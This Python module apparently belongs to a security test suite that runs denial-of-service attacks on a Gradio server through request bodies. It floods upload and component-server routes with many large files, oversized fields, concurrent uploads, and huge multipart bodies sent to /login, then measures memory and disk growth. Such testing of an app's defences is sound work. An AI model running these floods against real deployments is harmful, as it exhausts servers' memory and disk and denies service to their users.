"""Attacks through request bodies of files and forms: Gradio's upload route, the component server's multipart
form, and /login's form, which Starlette parses (into memory, or spooled to temporary files) before any handler."""

from __future__ import annotations

import collections
import json
import os
import secrets
import uuid

from attacks.clients import ATTACKER, Answer, Api, at_once, component_id, refused, status_answer
from attacks.measure import Sampler, disk, during
from attacks.payloads import CREDENTIALS, MB, encode, multipart, multipart_headers, seven
from attacks.target import Context


def editor_blob_uploads(ctx: Context, scale: float) -> Answer:
    """The old image editor's blob upload: POST /gradio_api/component_server with fn accept_blobs, pieces of
    4.9 MB (issue 13 attack 2: 200 of them kept 1 GB), then a 1-byte piece claiming index 50,000,000."""
    pad = component_id(ctx.api, "pad")
    blob = b"\0" * int(4.9 * MB)
    r = None
    for i in range(max(2, int(40 * scale))):
        fields = {
            "component_id": str(pad),
            "session_hash": uuid.uuid4().hex,
            "fn_name": "accept_blobs",
            "data": json.dumps({"type": "layer", "index": i, "id": "attack"}),
        }
        r = ctx.api.http.post("/gradio_api/component_server", data=fields, files=[("files", ("blob", blob))])
    fields["data"] = json.dumps({"type": "layer", "index": 50_000_000, "id": "attack"})
    r = ctx.api.http.post("/gradio_api/component_server", data=fields, files=[("files", ("blob", b"\0"))])
    return Answer("answer", r.text[:80]) if r.status_code == 200 else refused(r)


def component_server_many_files(ctx: Context, scale: float) -> Answer:
    """One multipart request to /gradio_api/component_server with many files: Gradio reads every file into
    memory (up to 1,000 of up to the upload limit each) before it looks for the function."""
    pad = component_id(ctx.api, "pad")
    count = max(2, int(60 * scale))
    fields = {"component_id": str(pad), "session_hash": uuid.uuid4().hex, "fn_name": "accept_blobs", "data": "{}"}
    files = [("files", (f"b{i}", b"\1" * int(4.9 * MB))) for i in range(count)]
    r = ctx.api.http.post("/gradio_api/component_server", data=fields, files=files)
    return Answer("answer", r.text[:80]) if r.status_code == 200 else refused(r)


def upload_flood(ctx: Context, scale: float) -> Answer:
    """Gradio's own upload route: 500 small files in one request, 20 uploads of 4.9 MB, and a 20 MB form field
    that is not a file (kept in memory by the multipart parser). Sent from its own address: it spends that
    client's upload budget, which must not lock out the tests' own client afterwards."""
    tiny = encode(seven(), "PNG")
    flooder = Api(ctx.server, address="203.0.113.68")
    try:
        many = flooder.upload([(f"f{i}.png", tiny) for i in range(int(500 * scale) or 2)])
        big = b"\1" * int(4.9 * MB)
        for i in range(max(2, int(20 * scale))):
            last = flooder.upload([(f"big{i}.png", big)])
        field_mb = 20 if scale >= 1 else 5
        text = flooder.http.post(
            "/gradio_api/upload", files=[("files", ("x.png", tiny))], data={"junk": "x" * (field_mb * MB)}
        )
    finally:
        flooder.close()
    parts = [f"{int(500 * scale) or 2} files: HTTP {many.status_code}", f"4.9 MB files: HTTP {last.status_code}",
             f"{field_mb} MB field: HTTP {text.status_code}"]  # fmt: skip
    kind = "refused" if any(r.status_code >= 400 for r in (many, last, text)) else "answer"
    return Answer(kind, "; ".join(parts))


def thousand_parts(ctx: Context, scale: float) -> Answer:
    """30 uploads of 1,000 four-byte files each: each file gets its own folder in Gradio's cache, so the disk
    holds far more than the bytes the upload budget counts."""
    count, folder = max(1, int(30 * scale)), ctx.cache_folder
    api = Api(ctx.server, address="203.0.113.83")
    before = disk(folder)

    def attack() -> Answer:
        codes: collections.Counter = collections.Counter()
        sent = 0
        for _ in range(count):
            files = [("files", (f"{secrets.token_hex(4)}.png", os.urandom(4))) for _ in range(1000)]
            request = api.http.build_request("POST", "/gradio_api/upload", files=files)
            body = request.read()
            r = api.http.send(request)
            codes[f"HTTP {r.status_code}"] += 1
            sent += len(body) if r.status_code == 200 else 0
        after = disk(folder)
        grown = {k: after[k] - before[k] for k in after}
        text = (f"{count} uploads of 1,000 parts: {dict(codes)}; {sent / MB:.1f} MB accepted, on disk "
                f"{grown['files']} files, {grown['dirs']} folders, {grown['bytes'] / MB:.0f} MB")  # fmt: skip
        kind = "answer" if codes.get("HTTP 200") == count else "refused"
        figures = {"accepted_mb": round(sent / MB, 2), "disk_mb": round(grown["bytes"] / MB, 1)} | grown
        return Answer(kind, text, figures=figures)

    with api:
        return during(ctx, attack)


def concurrent_uploads(ctx: Context, scale: float) -> Answer:
    """20 uploads of 4.9 MB at the same moment from one address (its budget: 50 MB a minute)."""
    count, size = 20, int(4.9 * MB)  # does not shrink: the point is 20 at once
    data = os.urandom(size)

    def prepare(api: Api, i: int):
        request = api.http.build_request("POST", "/gradio_api/upload", files=[("files", (f"u{i}.png", data))])
        request.read()
        return lambda: api.http.send(request).status_code

    def attack() -> Answer:
        codes = at_once(ctx.server, count, lambda i: "203.0.113.85", prepare)
        accepted = codes.count(200) * size
        text = (f"{codes.count(200)} of {count} accepted ({accepted / MB:.1f} MB against 50 MB a minute); the "
                f"rest {dict(collections.Counter(c for c in codes if c != 200))}")  # fmt: skip
        kind = "refused" if len(set(codes)) > 1 else "answer"
        return Answer(kind, text, figures={"accepted_mb": round(accepted / MB, 1)})

    return during(ctx, attack, delay=0.0)


def login_fields(ctx: Context, scale: float) -> Answer:
    """POST /login (Gradio serves it without auth, outside /gradio_api/) with 300 form fields of 1 MB each:
    Starlette parses the whole form into memory before Gradio's handler redirects."""
    count = max(2, int(300 * scale))
    length, body = multipart(CREDENTIALS + [(f"f{i}", None, 1_000_000) for i in range(count)])

    def attack() -> Answer:
        with Sampler(ctx.server.proc.pid) as temp:
            r = Api(ctx.server, address=ATTACKER).post("/login", body, multipart_headers(length))
        answer = status_answer(r, f"{count} fields of 1 MB")
        figures = {"sent_mb": round(length / MB), "temp_peak_mb": round(temp.peak / MB, 1)}
        return Answer(answer.kind, answer.text, figures=figures)

    return during(ctx, attack)


def login_file(ctx: Context, scale: float) -> Answer:
    """POST /login with one multipart file part of 1 GB: Starlette spools it to a temporary file (deleted, so only
    the server's open files show it) before the handler runs."""
    size = int(2**30 * scale)
    length, body = multipart(CREDENTIALS + [("file", "big.bin", size)])

    def on_disk() -> int:
        return disk(ctx.cache_folder)["bytes"] + disk(ctx.folder / "tmp")["bytes"]

    def attack() -> Answer:
        before = on_disk()
        with Sampler(ctx.server.proc.pid) as temp:
            r = Api(ctx.server, address=ATTACKER, timeout=300).post("/login", body, multipart_headers(length))
        answer = status_answer(r, f"one {size / MB:.0f} MB file part")
        figures = {"temp_peak_mb": round(temp.peak / MB, 1), "disk_kept_mb": round((on_disk() - before) / MB, 1)}
        return Answer(answer.kind, f"{answer.text}; open temp files peak {temp.peak / MB:.0f} MB", figures=figures)

    return during(ctx, attack)
